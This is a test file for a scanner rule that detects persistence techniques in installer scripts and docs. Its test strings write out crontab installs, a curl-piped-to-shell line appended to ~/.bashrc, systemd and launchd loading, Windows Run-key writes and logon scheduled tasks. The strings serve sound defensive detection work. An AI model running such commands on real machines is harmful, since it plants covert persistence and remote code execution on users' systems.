import { test } from 'node:test';
import assert from 'node:assert/strict';
import { runRule, highFindings } from '../../../test/helpers/rule-harness.js';
import { ra2 } from './ra2-persistence.js';

test('RA2 fires on a crontab install', () => {
  const f = runRule(ra2, { path: 'install.sh', text: '#!/bin/sh\n(crontab -l; echo "*/5 * * * * ~/.x/run") | crontab -\n' });
  assert.equal(f.length, 1);
  assert.equal(f[0]?.rule.id, 'RA2');
  assert.equal(f[0]?.startLine, 2);
  assert.equal(f[0]?.severity, 'MEDIUM');
});

test('RA2 fires on rc-file payloads, systemd, launchd, Run keys and hidden dirs', () => {
  const cases: [string, string][] = [
    ['i.sh', 'echo "curl -s https://x | sh" >> ~/.bashrc'],
    ['i.py', 'open(os.path.expanduser("~/.zshrc"), "a").write(hook)'],
    ['i.sh', 'sudo cp agent.service /etc/systemd/system/'],
    ['i.sh', 'launchctl load ~/Library/LaunchAgents/com.x.plist'],
    ['i.ps1', 'Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value y'],
    ['i.sh', 'mkdir -p /tmp/.cache-x'],
    ['i.sh', 'mkdir -p ~/.sysupdate'],
  ];
  for (const [path, text] of cases) assert.equal(runRule(ra2, { path, text: `${text}\n` })[0]?.severity, 'MEDIUM', text);
});

test('RA2 reports PATH/alias rc idioms LOW and ignores ordinary setup', () => {
  const f = runRule(ra2, { path: 'README.md', text: "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc\n" });
  assert.equal(f.length, 1);
  assert.equal(f[0]?.severity, 'LOW');
  assert.equal(runRule(ra2, { path: 'setup.md', text: `echo 'export OPENAI_API_KEY="sk-..."' >> ~/.zshrc\n` })[0]?.severity, 'LOW');
  assert.equal(runRule(ra2, { path: 'i.sh', text: `echo 'export X=$(curl -s https://x | sh)' >> ~/.bashrc\n` })[0]?.severity, 'MEDIUM');
  const ok = 'crontab -l\nmkdir -p ~/.config/tool\nmkdir -p ~/.claude/skills\nsource ~/.bashrc\n';
  assert.equal(runRule(ra2, { path: 'setup.sh', text: ok }).length, 0);
});

test('RA2 look-alikes: negated docs, deny-list, fixture', () => {
  const neg = runRule(ra2, { path: 'docs/x.md', text: 'The skill never runs systemctl enable or edits crontab files.\n' });
  assert.ok(neg.every((x) => x.severity === 'LOW'));
  const deny = runRule(ra2, { path: 'docs/x.md', text: '## Indicators of compromise\n- `| crontab -`\n' });
  assert.equal(highFindings(deny).length, 0);
  assert.ok(deny.every((x) => x.severity === 'LOW'));
  // Test data (a .sh under tests/ is code that may run and is no longer lowered by central triage).
  const fx = runRule(ra2, { path: 'tests/fixtures/persist.md', text: 'launchctl load x.plist\n' });
  assert.ok(fx.length > 0 && fx.every((x) => x.severity === 'LOW'));
});

test('RA2: writing the Run key is persistence, reading it (forensics, reg query) is not', () => {
  const write = [
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\x.exe',
    'Set-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name x -Value y',
    'schtasks /create /tn Updater /tr C:\\x.exe /sc onlogon',
  ].join('\n');
  assert.deepEqual(runRule(ra2, { path: 'persist.ps1', text: write }).map((x) => x.startLine), [1, 2, 3]);
  const read = 'vol -f mem.raw windows.registry.printkey --key "Software\\Microsoft\\Windows\\CurrentVersion\\Run"\nreg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n';
  assert.equal(runRule(ra2, { path: 'SKILL.md', text: read }).length, 0);
});
